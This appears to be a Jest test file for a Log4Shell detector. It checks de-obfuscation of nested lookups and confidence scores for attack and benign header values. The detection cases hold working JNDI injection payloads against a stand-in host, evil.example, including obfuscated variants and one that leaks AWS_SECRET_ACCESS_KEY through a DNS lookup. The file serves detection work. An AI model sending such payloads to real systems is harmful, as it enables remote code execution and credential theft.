import { createDetectorInput, makePoint } from '../../detector-input';
import { log4shellDetector } from './index';
import { evaluateLookups } from './lookup-evaluator';

const conf = (v: string): number => log4shellDetector.detect(createDetectorInput(makePoint(v, 'header.x-api-version')))?.confidence ?? 0;

describe('lookup evaluator', () => {
  it('resolves nested obfuscation', () => {
    expect(evaluateLookups('${${lower:J}${upper:n}${::-d}${env:NaN:-i}:x}').text).toBe('${jndi:x}');
    expect(evaluateLookups("${date:'j'}").text).toBe('j');
  });
  it('reads $${…} as an escape that a later substitution pass resolves', () => {
    expect(evaluateLookups('${::-$${::-j}}').text).toBe('j');
    expect(evaluateLookups('$${jndi:ldap://x}').text).toBe('${jndi:ldap://x}');
    expect(evaluateLookups('a $${b} c').text).toBe('a ${b} c');
  });
  it('counts empty-name defaults and lookup-built names', () => {
    const ev = evaluateLookups('${${::-${::-$${::-j}}}}');
    expect(ev.emptyDefaults).toBeGreaterThanOrEqual(2);
    expect(ev.nestedNames).toBe(1);
    expect(evaluateLookups('${PORT:-8080}').emptyDefaults).toBe(0);
  });
  it('bounds deep nesting', () => {
    const deep = '${'.repeat(5000) + 'x' + '}'.repeat(5000);
    expect(() => evaluateLookups(deep)).not.toThrow();
    const escapes = '${::-$${::-'.repeat(400) + 'j' + '}'.repeat(800);
    expect(evaluateLookups(escapes).text.length).toBeLessThanOrEqual(2048);
  });
});

describe('log4shellDetector', () => {
  it.each([
    '${jndi:ldap://evil.example/a}',
    '${jndi:rmi://evil.example:1099/a}',
    '${jndi:dns://evil.example}',
    '${${lower:j}ndi:${lower:l}dap://evil.example/a}',
    '${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://evil.example/a}',
    '${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example/a}',
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x}",
    '${${upper:j}ndi:ldap://x}',
    '%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D',
    '\\u0024\\u007bjndi:ldap://evil.example/a}',
    'User ${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.evil.example/a}',
    '${env:AWS_SECRET_ACCESS_KEY}',
    '${sys:user.name}',
    '${${::-${::-$${::-j}}}}',
    '${::-j}${::-n}${::-d}${::-i}',
    '$${jndi:ldap://evil.example/a}',
    '${${::-j}ndi:${::-l}$${::-d}ap://evil.example/a}',
  ])('detects %s', (v) => expect(conf(v)).toBeGreaterThanOrEqual(0.5));

  it.each([
    'price is ${price}',
    'Hello ${name}, welcome',
    '`${a}:${b}`',
    'jndi is a Java API',
    '{"template":"${user.firstName}"}',
    'PORT=${PORT:-8080} HOST=${HOST:-0.0.0.0}',
    'cp ${SRC:-${HOME}/src} ${DEST:-/tmp}',
    'label: ${${prefix}}',
    'costs $$ and ${price}',
  ])('ignores %s', (v) => expect(conf(v)).toBeLessThan(0.5));
});
